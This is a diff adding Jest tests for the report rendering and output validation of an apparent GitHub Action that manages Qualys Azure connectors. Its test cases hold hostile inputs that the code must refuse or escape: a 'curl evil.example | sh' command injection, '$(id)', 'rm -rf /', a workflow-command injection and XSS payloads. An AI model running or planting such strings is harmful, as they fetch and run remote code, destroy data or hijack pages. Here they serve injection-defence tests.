@@ -2,8 +2,8 @@ import { describe, expect, it } from '@jest/globals'
 import { show } from '../src/reconcile/diff.js'
 import { readConnector } from '../src/qualys/connector.js'
 import type { Outcome } from '../src/reconcile/reconcile.js'
-import { buildOutputs, connectorRows, planOutput } from '../src/report/outputs.js'
-import { callsLine, cell, planMarkdown, planText, PR_COMMENT_MARKER } from '../src/report/render.js'
+import { buildOutputs, checkOutputs, connectorRows, planOutput } from '../src/report/outputs.js'
+import { callsLine, cell, jobSummaryUrl, planComment, planMarkdown, planText, PR_COMMENT_MARKER, validMarkdown } from '../src/report/render.js'
 
 const connector = (raw: Record<string, unknown>) => readConnector({ name: 'x', ...raw })
 
@@ -174,7 +174,7 @@ describe('planMarkdown', () => {
       error: 'line 1\nline 2 | <img src=x>\r\nend \\ here'
     })
     const row = planMarkdown([nasty], 'apply', 'T').split('\n')[6]
-    expect(row).toBe('| ❌ | a\\|b&lt;script> | failed |  |  |  | **line 1 line 2 \\| &lt;img src=x> end \\\\ here** |')
+    expect(row).toBe('| ❌ | a\\|b&lt;script&gt; | failed |  |  |  | **line 1 line 2 \\| &lt;img src=x&gt; end \\\\ here** |')
     // Exactly the 8 unescaped pipes of a 7-column row.
     expect(row.match(/(?<!\\)\|/g)).toHaveLength(8)
   })
@@ -187,7 +187,32 @@ describe('planMarkdown', () => {
       changes: [{ field: 'description', from: 'a|b', to: 'c\nd' }],
       warnings: ['w1 <b>', 'w2']
     })], 'plan', 'T').split('\n')[6]
-    expect(row).toBe('| ✏️ | n | would-update |  |  | `description`: a\\|b → c d<br>⚠️ w1 &lt;b><br>⚠️ w2 |')
+    expect(row).toBe('| ✏️ | n | would-update |  |  | `description`: a\\|b → c d<br>⚠️ w1 &lt;b&gt;<br>⚠️ w2 |')
+  })
+
+  it('escapes the state from Qualys, and the names of the validate summary', () => {
+    const row = planMarkdown([outcome({ name: 'n', result: 'unchanged', connector: connector({ id: 5, name: 'n', state: '<details open>|@admin' }) })], 'plan', 'T').split('\n')[6]
+    expect(row).toBe('| ✅ | n | unchanged | 5 | &lt;details open&gt;\\|@&#8203;admin |  |')
+    expect(validMarkdown(['a|b', '<img src=x>', '@team'])).toBe('### Qualys Azure tenant connectors: spec valid\n\n- a\\|b\n- &lt;img src=x&gt;\n- @&#8203;team\n')
+  })
+
+  it.each<[string, string, string]>([
+    ['a pipe', 'a|b', 'a\\|b'],
+    ['HTML', '<img src=x onerror=alert(1)>', '&lt;img src=x onerror=alert(1)&gt;'],
+    ['an entity', '&lt;b&gt;', '&amp;lt;b&amp;gt;'],
+    ['backticks', '`code`', '\\`code\\`'],
+    ['emphasis and links', '*b* _i_ ~s~ [x](https://e.example)', '\\*b\\* \\_i\\_ \\~s\\~ \\[x\\](https://e.example)'],
+    ['a mention', 'ping @octocat and @org/team', 'ping @&#8203;octocat and @&#8203;org/team'],
+    ['an issue reference', 'see #12', 'see \\#12'],
+    ['line breaks and tabs', 'a\r\nb\nc\td', 'a b c d'],
+    ['bidi and zero-width characters', 'ab\u202ecd\u200bef', 'abcdef']
+  ])('cell: %s cannot change the table, add HTML or ping anyone', (_, text, expected) => {
+    expect(cell(text)).toBe(expected)
+  })
+
+  it('cell clips a very long value', () => {
+    expect([...cell('x'.repeat(5000))]).toHaveLength(600)
+    expect(cell('x'.repeat(5000)).endsWith('…')).toBe(true)
   })
 
   it('cell leaves plain text alone', () => {
@@ -196,6 +221,65 @@ describe('planMarkdown', () => {
 
   it('has a stable marker for the pull-request comment', () => {
     expect(PR_COMMENT_MARKER).toMatch(/^<!-- .+ -->$/)
+  })
+})
+
+describe('planComment', () => {
+  const many = Array.from({ length: 400 }, (_, i) => outcome({
+    name: `connector-${String(i).padStart(3, '0')}`,
+    result: i % 2 ? 'would-update' : 'unchanged',
+    action: i % 2 ? 'update' : 'none',
+    changes: i % 2 ? [{ field: 'description', from: 'o'.repeat(300), to: 'n'.repeat(300) }] : []
+  }))
+
+  it('is the plan itself when it fits', () => {
+    expect(planComment([created], 'Plan', undefined, 65_000)).toBe(planMarkdown([created], 'plan', 'Plan'))
+  })
+
+  it('a plan too long for GitHub is shortened: counts, connectors with changes first, a link to the job summary', () => {
+    const url = 'https://github.com/o/r/actions/runs/42'
+    const full = planMarkdown(many, 'plan', 'Plan')
+    expect(full.length).toBeGreaterThan(65_536)
+    const short = planComment(many, 'Plan', url, 65_000)
+    expect(short.length).toBeLessThanOrEqual(65_000)
+    expect(short).toContain('**Plan:** 0 to create, 200 to update, 200 unchanged.')
+    expect(short).toContain(`[the job summary of this run](${url})`)
+    const rows = short.split('\n').filter(line => line.startsWith('| ✏️') || line.startsWith('| ✅'))
+    expect(rows.length).toBeGreaterThan(50)
+    expect(rows[0]).toContain('connector-001')
+    expect(rows.every(row => row.includes('would-update'))).toBe(true)
+    expect(short).toMatch(new RegExp(`… and ${400 - rows.length} more connectors, in \\[the job summary`))
+  })
+})
+
+describe('shell-interpolated outputs', () => {
+  const good = { 'connector-uuid': '0b3d5f7a-1c2e-4a6b-8d9f-3e5a7c9b1d20', 'connector-id': '101', state: 'FINISHED_SUCCESS', result: 'created', connectors: '[]' }
+
+  it('keeps values of the expected forms', () => {
+    expect(checkOutputs(good)).toEqual({ outputs: good, refused: [] })
+    expect(checkOutputs({ ...good, state: '', 'connector-uuid': '' }).refused).toEqual([])
+  })
+
+  it.each<[string, string]>([
+    ['state', 'ERROR"; curl evil.example | sh; echo "'],
+    ['state', '$(id)'],
+    ['state', 'finished'],
+    ['connector-uuid', 'u-101'],
+    ['connector-uuid', '0b3d5f7a-1c2e-4a6b-8d9f-3e5a7c9b1d20\n::add-mask::x'],
+    ['connector-id', '12; rm -rf /'],
+    ['result', 'created`id`']
+  ])('refuses %s = %j: not set, and said which', (output, value) => {
+    const { outputs, refused } = checkOutputs({ ...good, [output]: value })
+    expect(outputs[output]).toBe('')
+    expect(refused).toEqual([{ output, form: expect.any(String) }])
+    expect(outputs.connectors).toBe('[]')
+  })
+
+  it('builds the run page from the runner\'s variables, refusing odd ones', () => {
+    expect(jobSummaryUrl({ GITHUB_SERVER_URL: 'https://github.com', GITHUB_REPOSITORY: 'o/r', GITHUB_RUN_ID: '42' })).toBe('https://github.com/o/r/actions/runs/42')
+    expect(jobSummaryUrl({ GITHUB_SERVER_URL: 'https://github.com', GITHUB_REPOSITORY: 'o/r)[x](y', GITHUB_RUN_ID: '42' })).toBeUndefined()
+    expect(jobSummaryUrl({ GITHUB_SERVER_URL: 'javascript:alert(1)', GITHUB_REPOSITORY: 'o/r', GITHUB_RUN_ID: '42' })).toBeUndefined()
+    expect(jobSummaryUrl({})).toBeUndefined()
   })
 })
 
